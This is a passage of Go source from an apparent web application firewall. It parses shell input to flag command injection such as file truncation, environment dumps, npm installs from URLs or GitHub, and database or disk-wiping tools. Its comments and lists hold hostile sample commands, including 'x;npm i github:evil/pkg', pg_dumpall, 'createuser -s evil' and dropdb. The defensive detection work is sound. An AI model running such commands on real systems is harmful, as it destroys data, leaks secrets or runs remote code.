			n := j
			for n < limit && !shellArgEnd(v[n]) && strings.IndexByte("<>(", v[n]) < 0 {
				if v[n] == '/' {
					s = n + 1
				}
				n++
			}
		}
		w, e := shellRunWord(v, s, buf[:0])
		if e == s {
			return nil, k
		}
		runner := false
		for _, r := range runners {
			if string(w) == r {
				runner = true
			}
		}
		if m := skipBlanks(v, e); runner && m > e {
			if string(w) == "su" {
				if j = suCommandStart(v, m, limit); j < 0 {
					return nil, k // su alone opens a shell
				}
				continue
			}
			j = runnerOptionsEnd(v, m, limit, string(w))
			continue
		}
		return w, e
	}
	return nil, k
}

// suCommandStart: at v[m:limit], after su and its blank, the index of
// the command its -c runs (su postgres -c pg_dumpall, su -l app -c
// 'truncate -s0 f', su --command=id, su -cid), past a quote that opens
// it; -1 when no -c comes within six words (su alone, su postgres).
func suCommandStart(v string, m, limit int) int {
	for n := 0; n < 6 && m < limit; n++ {
		e := m
		for e < limit && !shellArgEnd(v[e]) {
			e++
		}
		word := v[m:e]
		start := -1
		switch {
		case word == "-c" || word == "--command":
			start = skipBlanks(v, e)
			if start == e {
				return -1
			}
		case strings.HasPrefix(word, "--command="):
			start = m + len("--command=")
		case len(word) > 2 && word[0] == '-' && word[1] == 'c' && word[2] != '-':
			start = m + 2
		}
		if start >= 0 {
			if start < limit && (v[start] == '\'' || v[start] == '"') {
				start++
			}
			return start
		}
		if m = skipBlanks(v, e); m == e {
			return -1
		}
	}
	return -1
}

// runnerValueOptions are the options of sudo, doas and env that take the
// next word as their value (sudo -u app, doas -u app, env -u HOME, env -C
// /tmp); time's -p and every other option stand alone.
var runnerValueOptions = map[string]string{"sudo": "ugCDhprtUTR", "doas": "uC", "env": "uCS",
	"nice": "n", "ionice": "cnp", "runuser": "ugG", "timeout": "sk"}

// runnerLongValueOptions are their long options that take the next word
// as their value when not joined by = (sudo --user postgres).
var runnerLongValueOptions = map[string]bool{"user": true, "group": true, "chdir": true, "host": true, "prompt": true,
	"role": true, "type": true, "close-from": true, "other-user": true, "command-timeout": true, "unset": true,
	"split-string": true, "signal": true, "kill-after": true, "adjustment": true, "classdata": true, "class": true, "pid": true}

// runnerOptionsEnd: at v[m:limit], after a runner and its blank, the
// runner's options (sudo -u app -E, env -i, time -p), each with its value
// where it takes one, and a -- that ends them; the index of the word
// after them.
func runnerOptionsEnd(v string, m, limit int, runner string) int {
	m = runnerFlagsEnd(v, m, limit, runner)
	if runner == "timeout" {
		// timeout's duration before the command (timeout 5 pg_dumpall,
		// timeout 1.5m id)
		e := m
		for e < limit && (v[e] >= '0' && v[e] <= '9' || v[e] == '.') {
			e++
		}
		if e > m && e < limit && strings.IndexByte("smhd", v[e]) >= 0 {
			e++
		}
		if n := skipBlanks(v, e); e > m && n > e {
			return n
		}
	}
	return m
}

// runnerFlagsEnd reads runnerOptionsEnd's options (8 at most).
func runnerFlagsEnd(v string, m, limit int, runner string) int {
	for n := 0; n < 8 && m+1 < limit && v[m] == '-'; n++ {
		e := m + 1
		for e < limit && !shellArgEnd(v[e]) {
			e++
		}
		if e >= limit {
			return m
		}
		opt := v[m+1 : e]
		next := skipBlanks(v, e)
		if next == e {
			return m // a glued word: not an option
		}
		if opt == "-" {
			return next
		}
		takes := false
		if opt[0] == '-' {
			// a long option: --user postgres (--user=postgres is one word)
			takes = strings.IndexByte(opt, '=') < 0 && runnerLongValueOptions[opt[1:]]
		} else if x := strings.IndexAny(opt, runnerValueOptions[runner]); x >= 0 {
			// letters combined (-iu postgres): the first that takes a
			// value takes the next word when it is the last (-uapp holds it)
			takes = x == len(opt)-1
		}
		if takes {
			// the value: one word
			e = next
			for e < limit && !shellArgEnd(v[e]) {
				e++
			}
			if e >= limit || e == next {
				return m
			}
			if next = skipBlanks(v, e); next == e {
				return m
			}
		}
		m = next
	}
	return m
}

// shellAssignmentEnd: at v[j:limit], an assignment before a command
// (a=1, a+=x, a="b c", a=): a name, = and a value whose quotes close; the
// index after it, or j.
func shellAssignmentEnd(v string, j, limit int) int {
	n := j
	for n < limit && identByte(v[n], "") && !(n == j && v[n] >= '0' && v[n] <= '9') {
		n++
	}
	if n == j || n >= limit {
		return j
	}
	if v[n] == '+' {
		n++
	}
	if n >= limit || v[n] != '=' {
		return j
	}
	n++
	var quote byte
	for n < limit {
		c := v[n]
		switch {
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '\\':
			n++
		case c == '\'' || c == '"':
			quote = c
		case shellArgEnd(c):
			return n
		}
		n++
	}
	if quote != 0 || n < len(v) {
		return j // an unclosed quote or a value longer than the window
	}
	return n
}

// envDumpArgs: the words after typeset or declare (ending at v[e]), up to
// the command's end (envDumpEnd) in a window of shellStateWindow bytes,
// leave it printing the environment: none, or options of theirs of which
// one holds p, x, f or F (-p, -x, -px, +x, -f; not -i, -a, -A or -r
// alone, which print only such variables), with -- , a variable bash
// expands to nothing ($u, ${u}) and redirections (2>&1, </dev/null) read
// over. A name (typeset -i x, declare -A seen) is a declaration, a word
// prose ("typeset is", "typeset -- the old way"), but a secret's name
// after -p prints that variable (typeset -p AWS_SECRET_ACCESS_KEY:
// winSecretName). For export (export: exported), only -p counts (export
// -p, export -p NAME): export alone ends prose too ("Data import &
// export").
func envDumpArgs(v string, e int, sep byte, exported bool) bool {
	limit := min(len(v), e+shellStateWindow)
	opts, dump, named, names, printing := false, false, false, false, false
	for j := e; ; {
		if envDumpEnd(v, j, sep) {
			if exported {
				return dump
			}
			if names {
				return named // typeset -p x prints x alone
			}
			return !opts || dump
		}
		n := skipBlanks(v, j)
		if n >= limit || n == j && v[n] != '<' && v[n] != '>' {
			return false // a word glued to the last, or the window's end
		}
		if m := dumpOptionEnd(v, n, limit); m > n {
			opts = true
			letters := "pxfF"
			if exported {
				letters = "p"
			}
			dump = dump || strings.ContainsAny(v[n+1:m], letters)
			printing = printing || strings.IndexByte(v[n+1:m], 'p') >= 0
			j = m
		} else if m, secret := printedName(v, n, limit); printing && m > n {
			// typeset -p PATH API_KEY prints both; a secret's name among
			// them counts ('API_KEY', "API_KEY" and API\_KEY are
			// API_KEY to bash)
			named, names, j = named || secret, true, m
		} else if n+2 <= limit && v[n:n+2] == "--" && (n+2 == len(v) || shellArgEnd(v[n+2])) {
			j = n + 2
		} else if m := shellRedirectionEnd(v, n, limit); m > n {
			j = m
		} else if m := emptyExpansionEnd(v, n, limit); m > n {
			j = m
		} else {
			return false
		}
	}
}

// envDumpEnd: the command ends at v[j] as shellWordEnds reads it, or at
// a '|' (after blanks: typeset|grep SECRET) but after a '|', a line
// break or a backtick, where a Markdown table's cells (| typeset |
// declare |, a line's typeset | prints) and inline code are prose.
func envDumpEnd(v string, j int, sep byte) bool {
	if shellWordEnds(v, j) {
		return true
	}
	n := skipBlanks(v, j)
	return n < len(v) && v[n] == '|' && sep != '|' && sep != '\n' && sep != '`'
}

// printedName: at v[n:limit], a variable's name as bash reads a word
// (shellRunWord: quotes and backslashes taken out), ending where a word
// ends; the index after it and whether it is a secret's (winSecretName),
// or n.
func printedName(v string, n, limit int) (int, bool) {
	var b [48]byte
	w, m := shellRunWord(v, n, b[:0])
	if m == n || m > limit || len(w) == 0 || w[0] >= '0' && w[0] <= '9' {
		return n, false
	}
	for _, c := range w {
		if !identByte(c, "") {
			return n, false
		}
	}
	if m < len(v) && !shellArgEnd(v[m]) && v[m] != '<' && v[m] != '>' {
		return n, false // glued to more
	}
	return m, winSecretName(string(w))
}

// dumpOptionEnd: at v[n:limit], an option of typeset's and declare's (-
// or + and their letters: -p, -x, -px, +x, -f, -i), read unquoted as
// bash reads it (-'p', '-p', "-x", \-p), ending at the value's end, a
// blank, a separator or a redirection; the index after it, or n. "-ish"
// is none.
func dumpOptionEnd(v string, n, limit int) int {
	m, letters := n, 0
	var quote byte
	for m < limit {
		c := v[m]
		if quote == 0 && (shellArgEnd(c) || c == '<' || c == '>') {
			break
		}
		m++
		switch {
		case quote == 0 && (c == '\'' || c == '"'):
			quote = c
			continue
		case quote != 0 && c == quote:
			quote = 0
			continue
		case quote == 0 && c == '\\':
			if m >= limit {
				return n
			}
			c = v[m]
			m++
		}
		if letters == 0 && c != '-' && c != '+' || letters > 0 && strings.IndexByte("aAfFgiIlnprtux", c) < 0 {
			return n
		}
		letters++
	}
	if quote != 0 || letters < 2 || m >= limit && m < len(v) {
		return n
	}
	return m
}

// shellRedirectionEnd: at v[n:limit], a redirection: a file descriptor's
// digits, {name} or & before it, < > >> >| >& <& <> << or <<<, blanks
// and its target (a word); the index after it, or n.
func shellRedirectionEnd(v string, n, limit int) int {
	m := n
	switch {
	case v[m] == '&':
		m++
	case v[m] == '{':
		m++
		for m < limit && identByte(v[m], "") {
			m++
		}
		if m >= limit || v[m] != '}' {
			return n
		}
		m++
	default:
		for m < limit && v[m] >= '0' && v[m] <= '9' {
			m++
		}
	}
	if m >= limit || v[m] != '<' && v[m] != '>' {
		return n
	}
	m++
	if m < limit && strings.IndexByte("<>|&", v[m]) >= 0 {
		m++
		if m < limit && v[m-1] == '<' && v[m] == '<' {
			m++
		}
	}
	m = skipBlanks(v, m)
	s := m
	for m < limit && !shellArgEnd(v[m]) && v[m] != '<' && v[m] != '>' {
		m++
	}
	if m == s || m >= limit && m < len(v) {
		return n
	}
	return m
}

// emptyExpansionEnd: at v[n:limit], a word of unquoted variables only
// ($u, ${u}, $1, $@, $u$v), which bash expands to nothing when they are
// unset (typeset $u prints every variable; "$u" is an empty name); the
// index after it, or n.
func emptyExpansionEnd(v string, n, limit int) int {
	m := n
	for m+1 < limit && v[m] == '$' {
		switch c := v[m+1]; {
		case c == '{':
			p := m + 2
			for p < limit && identByte(v[p], "") {
				p++
			}
			if p == m+2 || p >= limit || v[p] != '}' {
				return n
			}
			m = p + 1
		case c == '@' || c == '*' || c >= '0' && c <= '9':
			m += 2
		case identByte(c, ""):
			m++
			for m < limit && identByte(v[m], "") {
				m++
			}
		default:
			return n
		}
	}
	if m == n || m < len(v) && !shellArgEnd(v[m]) && v[m] != '<' && v[m] != '>' {
		return n
	}
	return m
}

// shellWordEnds: the command word that ends at v[e] stands alone, as
// rule 210151 reads one of its words at the end (shellCommandBody's
// endWord): white space then the value's end, ;, &, # or a closing ); or
// a closing backtick at the value's end (white space after it) or before
// ;, &, < or > (after blanks) or a '|'. A line break or a '|' before more
// (a line list, a Markdown table's cell) and inline code before a word
// ("`typeset` is ...") are prose.
func shellWordEnds(v string, e int) bool {
	j := skipSpace(v, e)
	if j == len(v) || strings.IndexByte(";&#)", v[j]) >= 0 {
		return true
	}
	if e >= len(v) || v[e] != '`' {
		return false
	}
	n := e + 1
	if n < len(v) && v[n] == '|' || skipSpace(v, n) == len(v) {
		return true
	}
	n = skipBlanks(v, n)
	return n < len(v) && strings.IndexByte(";&<>", v[n]) >= 0
}

// shellTruncate is rule 210224's operator (see shellStateRules): after a
// separator and grouping, truncate (after assignments, a runner of
// truncateRunners or a path: shellCommandWord) with an option of its own
// (truncateOption) or a redirection that empties a file
// (truncatingRedirection), a named descriptor's ({fd}>) too, with no
// command before it or one that writes nothing (true, false, echo, or
// :, quoted or escaped too: x;true>db.sqlite, x;\:>db.sqlite). After a
// line break or a backtick the
// redirection must end the command (strict): a Markdown quote's line
// ("> notes.txt has more") and inline code ("use `> out.txt` to save")
// are prose. "x; truncate the list" passes.
func shellTruncate(v string) bool {
	return eachShellCommand(v, func(i, k int) bool {
		if k >= len(v) {
			return false
		}
		strict := v[i] == '\n' || v[i] == '`'
		if r := namedDescriptorEnd(v, k); r > k {
			return truncatingRedirection(v, r, strict)
		}
		if e := quotedColonEnd(v, k); e > k {
			if n := skipBlanks(v, e); n < len(v) && truncatingRedirection(v, n, strict) {
				return true // x;\:>db.sqlite, x;':'>db.sqlite
			}
			return false
		}
		if v[k] != '>' && v[k] != ':' && (v[k] < '0' || v[k] > '9') {
			var a [16]byte
			w, e := shellCommandWord(v, k, truncateRunners, true, a[:0])
			if e > k && string(w) == "truncate" && truncateOption(v, e) {
				return true
			}
			// a command that writes nothing, before a redirection:
			// x;true>db.sqlite, x;echo>db.sqlite
			if e > k && (string(w) == "true" || string(w) == "false" || string(w) == "echo") {
				if n := skipBlanks(v, e); n < len(v) && (v[n] == '>' || v[n] >= '0' && v[n] <= '9') && truncatingRedirection(v, n, strict) {
					return true
				}
			}
			return false
		}
		// |> and a blank is a pipe-forward operator (Elixir, F#, OCaml,
		// Elm, R: xs |> List.map f), <&> a functor's map (Haskell);
		// x|>db.sqlite, with no blank, is bash's
		if v[k] == '>' && k == i+1 && k+1 < len(v) && (v[k+1] == ' ' || v[k+1] == '\t') &&
			(v[i] == '|' || v[i] == '&' && i > 0 && v[i-1] == '<') {
			return false
		}
		if truncatingRedirection(v, k, strict) {
			return true
		}
		return false
	})
}

// truncateOption: in the truncate command's words after v[e] (up to a
// separator, at most shellStateWindow bytes), one of its options: -s,
// -c, -o or -r (as -s0, -cs0, -s 0), or --size, --no-create,
// --reference, --io-blocks (or a prefix of one, as getopt takes it).
// Each word is read as bash unquotes it (shellRunWord: \-s0, -""s0,
// $'-s0', "-s"0).
func truncateOption(v string, e int) bool {
	limit := min(len(v), e+shellStateWindow)
	for j := e; j < limit; {
		if strings.IndexByte(";|&`\n", v[j]) >= 0 {
			return false
		}
		if v[j] != ' ' && v[j] != '\t' {
			j++
			continue
		}
		n := skipBlanks(v, j)
		if n >= limit {
			return false
		}
		var a [shellStateWindow]byte
		if w, _ := shellRunWord(v, n, a[:0]); len(w) > 1 && w[0] == '-' {
			if strings.IndexByte("cors", w[1]) >= 0 || w[1] == '-' && len(w) > 2 && strings.IndexByte("snri", w[2]) >= 0 {
				return true
			}
		}
		j = n
		for j < limit && v[j] != ' ' && v[j] != '\t' && strings.IndexByte(";|&`\n", v[j]) < 0 {
			j++
		}
	}
	return false
}

// namedDescriptorEnd: v[k:] (after a '{' that skipShellGrouping read
// over) is a named file descriptor's name and its closing brace before a
// '>' ({fd}>db.sqlite); the index of the '>', or k.
func namedDescriptorEnd(v string, k int) int {
	if k == 0 || v[k-1] != '{' {
		return k
	}
	n := k
	for n < len(v) && n-k < shellStateWindow && identByte(v[n], "") {
		n++
	}
	if n == k || n+1 >= len(v) || v[n] != '}' || v[n+1] != '>' {
		return k
	}
	return n + 1
}

// truncatingRedirection: at v[k:] (after a separator), ':' and blanks or
// a file descriptor's digits (1, 10) or nothing, then > or >| (not >>,
// which appends), blanks, and a file's name as bash unquotes it
// (fileLikeName: a path or a name with an extension), then the value's end, a blank or a
// separator; when strict, then only the value's end or a separator
// (after blanks), or a closing backtick at the value's end or before an
// operator.
func truncatingRedirection(v string, k int, strict bool) bool {
	j := k
	switch {
	case v[j] == ':':
		j = skipBlanks(v, j+1)
	default:
		for j < len(v) && j-k < shellStateWindow && v[j] >= '0' && v[j] <= '9' {
			j++ // 1>, 10>
		}
	}
	if j >= len(v) || v[j] != '>' {
		return false
	}
	j++
	if j < len(v) && v[j] == '>' {
		return false
	}
	if j < len(v) && v[j] == '|' {
		j++
	}
	j = skipBlanks(v, j)
	// the name as bash unquotes it: 'db.sqlite', db''.sqlite,
	// "db".sqlite, db\.sqlite
	var a [shellStateWindow + 1]byte
	name := a[:0]
	var quote byte
	s := j
	for ; j < len(v) && j-s < shellStateWindow; j++ {
		c := v[j]
		if c == '\\' && quote == 0 && j+1 < len(v) && fileNameByte(v[j+1]) {
			j++
			name = append(name, v[j])
		} else if quote != 0 && c == quote {
			quote = 0
		} else if quote == 0 && (c == '\'' || c == '"') {
			quote = c
		} else if fileNameByte(c) {
			name = append(name, c)
		} else {
			break
		}
	}
	if quote != 0 || j-s >= shellStateWindow || !fileLikeName(string(name)) {
		return false // an unclosed quote, or a name longer than the window
	}
	if j == len(v) {
		return true
	}
	switch c := v[j]; {
	case c == ';' || c == '&' || c == '|' || c == '\n' || c == ')':
		return true
	case c == '`':
		return !strict || shellWordEnds(v, j)
	case c == ' ' || c == '\t' || c == '\r':
		if !strict {
			return true
		}
		n := j
		for n < len(v) && (v[n] == ' ' || v[n] == '\t' || v[n] == '\r') {
			n++
		}
		return n == len(v) || strings.IndexByte(";&|\n)", v[n]) >= 0 || v[n] == '`' && shellWordEnds(v, n)
	}
	return false
}

// quotedColonEnd: v[k:] is bash's : quoted or escaped (\:, ':', ":");
// the index after it, or k.
func quotedColonEnd(v string, k int) int {
	switch {
	case strings.HasPrefix(v[k:], `\:`):
		return k + 2
	case strings.HasPrefix(v[k:], `':'`) || strings.HasPrefix(v[k:], `":"`):
		return k + 3
	}
	return k
}

// fileNameByte: c is one of a redirection's file name's bytes as
// truncatingRedirection reads them.
func fileNameByte(c byte) bool { return identByte(c, "./~+-${}") }

// fileLikeName: name (a redirection's target) names a file: an absolute
// path (/etc/passwd), one from the home or the current directory (~/x,
// ./x, ../x) or from a variable ($HOME/.bashrc), a hidden file (.env), or
// a name whose last part has an extension of letters and digits that
// starts with a letter (db.sqlite, victim2.sqlite, data/app.db). "b",
// "5", "2.5x", "e.g." and "v1.2" name none.
func fileLikeName(name string) bool {
	switch {
	case len(name) > 1 && name[0] == '/' && identByte(name[1], "."):
		return true
	case strings.HasPrefix(name, "~/") || strings.HasPrefix(name, "./") || strings.HasPrefix(name, "../"):
		return len(name) > strings.IndexByte(name, '/')+1
	case name != "" && name[0] == '$' && strings.IndexByte(name, '/') > 1:
		return true
	}
	seg := name[strings.LastIndexByte(name, '/')+1:]
	dot := strings.LastIndexByte(seg, '.')
	if dot < 0 {
		return false
	}
	ext := seg[dot+1:]
	if ext == "" || len(ext) > 10 || !(ext[0] >= 'a' && ext[0] <= 'z' || ext[0] >= 'A' && ext[0] <= 'Z') {
		return false
	}
	for i := 0; i < len(ext); i++ {
		if !identByte(ext[i], "") || ext[i] == '_' {
			return false
		}
	}
	if dot == 0 {
		return true // .env, .bashrc
	}
	for i := 0; i < dot; i++ {
		if identByte(seg[i], "") {
			return true
		}
	}
	return false
}

// shellInstallRules are rules 210226 and 210227, attack 91's commands
// after a separator, which rule 210151's expression does not read and
// cannot take (its RE2 budget is spent, "The bound"):
//   - 210226 (shellPkgInstall): a JavaScript package manager installing
//     or running a package from a source that is no registry name (a URL,
//     github:, git+, file:, a tarball, a path or a host): its install
//     scripts run (npm ran a preinstall script as root):
//     x;npm i http://192.0.2.2:18913/x.tgz, x;npm i github:evil/pkg,
//     x;pnpm add git+https://e/x.git, x;npx github:evil/pkg. A registry
//     name alone is what a forum post writes ("Run the tests; npm i lodash
//     first") and passes, as x;pnpm add evil-pkg does (not covered).
//   - 210227 (shellSysCommand): commands that list files, mounts, sockets
//     and open files, the shell's commands and variables, or stop the
//     host: a word that is no prose word (lsof, findmnt, lsblk, poweroff,
//     vdir, cgexec, telinit, compgen) at the end of a command or before an
//     option or a path, and a word that is also prose (du, ss, halt,
//     init, umount, readonly, history, mount) before an option of its own
//     (-a, -f, -xp); init and telinit before a runlevel's digit that ends
//     the command too. "Art; history", "the train will halt; passengers",
//     "a; mount Everest" and "Tools; lsof lists open files" pass.
//
// Each reads as 210223 does: after each of 210151's separators, the
// command word (shellRunWord) in a window of shellStateWindow bytes and
// what follows it in a window as bounded.
var shellInstallRules = `SecRule ` + valueHeaderTargets + ` "@` + shellPkgInstallOp + `" "id:210226,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a package manager installing from a URL, a repository or a file',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@` + shellSysCommandOp + `" "id:210227,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a command that lists the system or stops the host',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

const (
	shellPkgInstallOp = "gatewayShellPkgInstall"
	shellSysCommandOp = "gatewayShellSysCommand"
)

func init() {
	registerGoOperator(shellPkgInstallOp, shellPkgInstall)
	registerGoOperator(shellSysCommandOp, shellSysCommand)
}

// pkgInstallVerbs are, for each package manager, its subcommands that
// install or run a package it fetches (npm's abbreviations and
// misspellings of install are its own aliases); npx, pnpx and bunx take
// the package with no subcommand.
var pkgInstallVerbs = map[string][]string{
	"npm": {"i", "in", "ins", "inst", "insta", "instal", "install", "isnt", "isnta", "isntal", "isntall", "add", "exec", "x",
		"it", "install-test"},
	"pnpm": {"i", "install", "add", "dlx"},
	"yarn": {"add", "dlx"},
	"bun":  {"i", "install", "add", "x"},
	"npx":  nil, "pnpx": nil, "bunx": nil,
}

// shellPkgInstall is rule 210226's operator (see shellInstallRules):
// after a separator and grouping, npm, pnpm, yarn or bun
// (shellCommandWord: after assignments and truncateRunners' runners) and
// options (pkgVerb), one of its install verbs (yarn global add too), or npx,
// pnpx or bunx; then among the command's words up to its end (options
// and registry names read over) a source that is no registry name
// (pkgSource), or any registry name after npm_config_registry= or
// --registry. A word that is neither (a prose word with a ':' or a
// ',') ends the reading: "Bug; npm install fails: see https://..."
// passes. After a line break or a backtick the command must end there
// (inline code in a sentence, "install with `npm i github:u/r` today",
// is prose).
func shellPkgInstall(v string) bool {
	return eachShellCommand(v, func(i, k int) bool {
		var a [16]byte
		w, e := shellCommandWord(v, k, truncateRunners, false, a[:0])
		if e == k {
			return false
		}
		verbs, ok := pkgInstallVerbs[string(w)]
		if !ok {
			return false
		}
		// a registry set in the environment (npm_config_registry=...
		// npm i evil-pkg) makes any package name a source
		registry := strings.Contains(strings.ToLower(v[k:e]), "npm_config_registry=")
		limit := min(len(v), e+shellStateWindow)
		j := e
		if verbs != nil {
			j = pkgVerb(v, e, limit, verbs, string(w) == "yarn", &registry)
			if j < 0 {
				return false
			}
		}
		if pkgArguments(v, j, limit, string(w) == "yarn", registry, v[i] == '\n' || v[i] == '`') {
			return true
		}
		return false
	})
}

// pkgVerb reads, at v[e:limit], blanks, options (-g, --prefix=x, and
// after an option with no =, one word that is no verb: its value, as in
// --prefix /tmp, -C dir, -w app) and one of verbs (shellRunWord; yarn's
// global before add); it answers the index after the verb, or -1. A
// --registry option sets *registry.
func pkgVerb(v string, e, limit int, verbs []string, yarn bool, registry *bool) int {
	j := e
	value := false // the word before may take the next as its value
	for j < limit {
		n := skipBlanks(v, j)
		if n == j || n >= limit {
			return -1
		}
		if v[n] == '-' {
			s := n
			for n < limit && !shellArgEnd(v[n]) {
				n++
			}
			if strings.HasPrefix(v[s:n], "--registry") {
				*registry = true
			}
			value = strings.IndexByte(v[s:n], '=') < 0
			j = n
			continue
		}
		var a [16]byte
		w, end := shellRunWord(v, n, a[:0])
		isVerb := false
		for _, verb := range verbs {
			if end > n && string(w) == verb {
				isVerb = true
			}
		}
		if isVerb && (end == len(v) || shellArgEnd(v[end])) {
			return end
		}
		if yarn && end > n && string(w) == "global" {
			j, value = end, false
			continue
		}
		if !value {
			return -1
		}
		for n < limit && !shellArgEnd(v[n]) {
			n++ // an option's value: /tmp, dir, app
		}
		j, value = n, false
	}
	return -1
}

// shellArgEnd: c ends a command's word (a blank or a separator).
func shellArgEnd(c byte) bool { return strings.IndexByte(" \t\r\n;|&`)", c) >= 0 }

// pkgArguments reads the install command's words at v[j:limit]: an
// option or a registry name (pkgSpec) is read over, a source
// (pkgSource) is the answer; any other word, or the command's end, ends
// the reading. When strict, a source counts only if the command ends
// with the value, a separator or a closing backtick that ends a command
// (shellWordEnds).
func pkgArguments(v string, j, limit int, yarn, registry, strict bool) bool {
	found := false
	for {
		n := skipBlanks(v, j)
		if n >= len(v) || strings.IndexByte(";|&`)\n\r", v[n]) >= 0 {
			j = n
			break
		}
		if n == j || n >= limit {
			return false // a word glued to the verb, or the window's end
		}
		s := n
		for n < len(v) && !shellArgEnd(v[n]) {
			if n++; n >= limit && n < len(v) {
				return false // a word longer than the window
			}
		}
		var a [shellStateWindow]byte
		tok := a[:0]
		for _, c := range []byte(v[s:n]) {
			if c != '\'' && c != '"' && c != '\\' {
				tok = append(tok, c)
			}
		}
		switch {
		case pkgSource(string(tok), yarn):
			if !strict {
				return true
			}
			found = true
		case registry && len(tok) > 0 && tok[0] != '-' && pkgSpec(string(tok)):
			if !strict {
				return true
			}
			found = true
		case len(tok) > 0 && tok[0] == '-' || pkgSpec(string(tok)):
		default:
			return false
		}
		j = n
	}
	if !found {
		return false
	}
	if j == len(v) || v[j] != '`' {
		return true
	}
	return shellWordEnds(v, j)
}

// pkgSource: tok (a package manager's argument, quotes taken out) names
// a package by no registry name: a URL (://), a repository or file
// protocol (github:, gitlab:, bitbucket:, gist:, git+, git@, file:,
// link:, http:), a tarball (.tgz, .tar.gz, .tar), an absolute path or
// one from the home (/x, ~/x), a host and a path (evil.com/x.tgz),
// owner/repo#ref, or, but for yarn (knitting's "yarn add wool/silk"),
// GitHub's owner/repo. A scoped name (@types/node) is a registry name, a
// relative path (./x, ../x: a monorepo's instructions, "npm i
// ../shared-lib") none.
func pkgSource(tok string, yarn bool) bool {
	if len(tok) < 2 {
		return false
	}
	t := strings.ToLower(tok)
	if strings.Contains(t, "://") {
		return true
	}
	for _, p := range []string{"github:", "gitlab:", "bitbucket:", "gist:", "git+", "git@", "file:", "link:", "http:", "https:", "/", "~/"} {
		if strings.HasPrefix(t, p) && len(t) > len(p) {
			return true
		}
	}
	for _, s := range []string{".tgz", ".tar.gz", ".tar"} {
		if strings.HasSuffix(t, s) && len(t) > len(s) {
			return true
		}
	}
	if strings.HasPrefix(t, "./") || strings.HasPrefix(t, "../") {
		return false // a monorepo's package: npm i ../shared-lib
	}
	if h := strings.IndexByte(t, '#'); h > 0 && t[0] != '@' && pkgSpec(t[:h]) && strings.IndexByte(t[:h], '/') > 0 {
		return true // owner/repo#ref, a git source: evil/pkg#main
	}
	slash := strings.IndexByte(t, '/')
	if t[0] == '@' || slash <= 0 || slash == len(t)-1 {
		return false
	}
	if strings.ContainsAny(t[:slash], ".:") {
		return true
	}
	return !yarn && pkgSpec(t)
}

// pkgSpec: tok is shaped as a registry name with a version or a range
// (lodash, react@18.2.0, @types/node, x@^1 || 2 is read word by word):
// letters, digits and @ . _ ~ ^ * = < > + - / only.
func pkgSpec(tok string) bool {
	if tok == "" {
		return false
	}
	for i := 0; i < len(tok); i++ {
		if !identByte(tok[i], "@._~^*=<>+-/") {
			return false
		}
	}
	return true
}

// sysCommandProse are 210227's words that prose writes too (they count
// only before an option of their own, or init before a runlevel);
// sysCommandOwn are those it does not (they count at the end of a
// command too, and before a path).
var (
	sysCommandProse = map[string]bool{"du": true, "ss": true, "halt": true, "init": true, "umount": true,
		"readonly": true, "history": true, "mount": true}
	sysCommandOwn = map[string]bool{"lsof": true, "findmnt": true, "lsblk": true, "poweroff": true, "vdir": true,
		"cgexec": true, "telinit": true, "compgen": true}
)

// shellSysCommand is rule 210227's operator (see shellInstallRules):
// after a separator and grouping, one of sysCommandOwn's words
// (shellCommandWord: after assignments and runners) at a command's end (shellWordEnds), before an option or
// before a path (/, ~/, ./); one of sysCommandProse's before an option
// (shellOption), du before options and a path (duPathArgs); init and telinit before a runlevel's digit that ends
// the command.
func shellSysCommand(v string) bool {
	return eachShellCommand(v, func(i, k int) bool {
		if shellForkBomb(v, k) || strings.IndexByte(";|&", v[i]) >= 0 && shellEndlessLoop(v, k) || computedCommand(v, i, k) {
			return true
		}
		var a [16]byte
		// a tool by its path too (/usr/lib/postgresql/15/bin/pg_dumpall,
		// ./kubectl), after more runners (timeout 5, nice -n 10, setsid)
		if w, e := shellCommandWord(v, k, toolRunners, true, a[:0]); e > k {
			word := string(w)
			if strings.HasPrefix(word, "mkfs.") {
				word = "mkfs" // mkfs.ext4, mkfs.xfs
			}
			if sub, ok := sysCommandTools[word]; ok {
				return toolArguments(v, e, word, sub)
			}
		}
		w, e := shellCommandWord(v, k, truncateRunners, false, a[:0])
		if e == k {
			return false
		}
		word := string(w)
		own := sysCommandOwn[word]
		if !own && !sysCommandProse[word] {
			return false
		}
		if word == "du" {
			return duPathArgs(v, e)
		}
		if word == "ss" {
			// only before a short option that lists processes (-p,
			// -xp, -tlnp): "FYI; ss -s" is a summary, low impact
			if n := skipBlanks(v, e); shellOption(v, e) && n+1 < len(v) && v[n+1] != '-' && strings.IndexByte(v[n:min(len(v), n+34)], 'p') > 0 {
				return true
			}
			return false
		}
		if shellOption(v, e) {
			return true
		}
		if (word == "init" || word == "telinit") && shellRunlevel(v, e) {
			return true
		}
		if own && (shellWordEnds(v, e) || shellPathArg(v, e)) {
			return true
		}
		return false
	})
}

// sysCommandTools are 210227's database, cluster, cloud and disk tools
// (attack 92 ran pg_dumpall, createuser -s evil and dropdb mydb through a
// vulnerable "getent hosts $host" as the database's account): a name no
// prose writes (nil: pg_dumpall, redis-cli, kubectl, wipefs) counts at
// the command's end, before an option, a path or a word that is not
// prose's (toolArguments); a name that is a word too (aws, vault, helm,
// terraform) counts before one of its own subcommands only.
var sysCommandTools = map[string][]string{
	"pg_dumpall": nil, "pg_dump": nil, "pg_restore": nil, "pg_ctl": nil, "pg_ctlcluster": nil, "pg_basebackup": nil,
	"createuser": nil, "createdb": nil, "dropdb": nil, "dropuser": nil, "mysqladmin": nil, "mysqldump": nil,
	"redis-cli": nil, "mongodump": nil, "mongoexport": nil, "mongosh": nil, "sqlcmd": nil,
	"kubectl": nil, "gcloud": nil, "etcdctl": nil, "oc": {"get", "exec", "rsh", "extract", "delete", "whoami"},
	"wipefs": nil, "blkdiscard": nil, "sgdisk": nil, "lvremove": nil, "vgremove": nil, "pvremove": nil,
